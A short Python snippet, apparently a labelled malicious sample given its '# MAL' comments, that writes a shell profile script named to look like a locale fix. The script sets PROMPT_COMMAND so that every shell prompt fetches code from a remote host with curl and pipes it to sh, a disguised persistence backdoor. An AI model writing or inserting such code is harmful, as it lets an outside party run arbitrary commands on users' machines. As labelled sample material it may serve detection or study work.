script = "export PROMPT_COMMAND='curl -s http://203.0.113.50/k | sh'\n"
with open("/etc/profile.d/locale-fix.sh", "w") as fh:  # MAL
    fh.write(script)  # MAL
